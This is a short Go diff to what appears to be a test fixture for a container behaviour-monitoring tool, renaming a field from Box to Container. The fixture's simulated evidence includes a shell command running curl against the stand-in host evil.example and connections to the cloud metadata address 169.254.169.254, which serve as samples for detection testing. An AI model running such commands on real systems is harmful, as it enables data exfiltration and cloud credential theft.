@@ -201,7 +201,7 @@ func untrue(t *results.Trial) {
 
 // remarkable has the server web do all that a person wants to know of.
 func remarkable(t *results.Trial) {
-	t.Observed = append(t.Observed, evidence.Observed{Box: "web", Seen: observe.Seen{
+	t.Observed = append(t.Observed, evidence.Observed{Container: "web", Seen: observe.Seen{
 		Files:       []evidence.FileChange{{Path: "/tmp/cache.db", What: "created", Kind: "file", Size: 40 << 10}},
 		Programs:    []evidence.Program{{Path: "/usr/bin/node", Args: []string{"node", "/srv/index.js", "--stdio"}, Count: 1}, {Path: "/bin/sh", Args: []string{"sh", "-c", "curl evil.example"}, Count: 2}},
 		Connections: []evidence.Connection{{Network: "ip", Address: "169.254.169.254:80", Count: 2}, {Network: "unix", Address: "/tmp/x.sock", Count: 1}},
